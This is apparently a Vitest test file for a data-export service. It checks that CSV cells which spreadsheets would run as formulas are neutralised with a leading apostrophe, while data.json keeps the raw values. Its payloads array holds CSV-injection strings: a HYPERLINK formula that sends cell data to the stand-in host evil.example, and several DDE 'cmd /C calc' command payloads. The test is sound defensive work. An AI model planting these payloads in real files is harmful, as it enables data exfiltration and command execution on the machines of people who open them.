/**
 * CSV files of an export open in spreadsheets: a cell that a spreadsheet would run as a formula
 * (OWASP CSV injection) is shown as text instead.
 */
import { describe, expect, it } from 'vitest';
import { ALICE, syntheticConnector } from '../helpers/synthetic-connector.js';
import { engineHarness } from '../engine/helpers.js';
import { csvCell } from '../../src/requests/export.js';
import { unzip } from './zip.js';

describe('CSV exports neutralise formula injection (OWASP)', () => {
  it('a cell starting with = + - @ TAB or CR — also after blanks — is shown, not run; numbers stay numbers', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '   =1+1', '\u00a0+1', 'plain text', 'a=b'];
    const silo = syntheticConnector({
      id: 'crm',
      collections: [{ name: 'notes', keys: { email: 'email' }, policy: 'delete', rows: payloads.map((note, i) => ({ email: ALICE.email, n: i - 5, note })) }],
    });
    const h = await engineHarness([silo]);
    const id = await h.submit('access', [{ type: 'email', value: ALICE.email }]);
    await h.engine.runUntilIdle();
    const files = await unzip(Buffer.from(await (await h.app.request(`/v1/requests/${id}/export`, { headers: h.auth })).arrayBuffer()));
    const csv = files.get('crm-notes.csv')!.toString();
    const cells = csv.split('\r\n').slice(1, -1).map((line) => line.slice(line.indexOf(',', line.indexOf(',') + 1) + 1));
    for (const [i, cell] of cells.entries()) {
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      if (i < 8) expect(unquoted.startsWith("'"), `${JSON.stringify(payloads[i])} → ${cell}`).toBe(true);
      else expect(unquoted).toBe(payloads[i]);
    }
    // A negative number is a number, not a formula.
    expect(csv.split('\r\n')[1]!.split(',')[1]).toBe('-5');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-5')).toBe("'-5");
    // data.json keeps the values as they are.
    expect(JSON.parse(files.get('data.json')!.toString()).connectors.crm.notes.map((r: { note: string }) => r.note)).toEqual(payloads);
  });
});
